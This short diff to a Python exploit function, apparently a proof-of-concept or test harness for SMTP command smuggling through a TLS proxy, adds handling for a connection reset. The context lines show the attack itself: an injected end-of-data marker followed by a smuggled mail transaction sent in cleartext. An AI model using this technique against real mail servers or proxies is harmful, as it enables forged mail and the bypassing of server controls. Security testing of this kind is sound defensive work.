@@ -119,8 +119,13 @@ def attack(port: int, message_start: bytes) -> tuple[list[bytes], bytes]:
         # The rest of the chunk (or the body's end) and a whole transaction, in cleartext.
         sock.sendall(b"c" * 58 + b"\r\n" + b".\r\n" + SMUGGLED + b"QUIT\r\n")
         after = b""
-        while chunk := sock.recv(65536):
-            after += chunk
+        try:
+            while chunk := sock.recv(65536):
+                after += chunk
+        except ConnectionResetError:
+            # The proxy closed with our cleartext unread (its close_notify may come first):
+            # the kernel answers that with a reset. Nothing more can come.
+            pass
         return replies, after
 
 
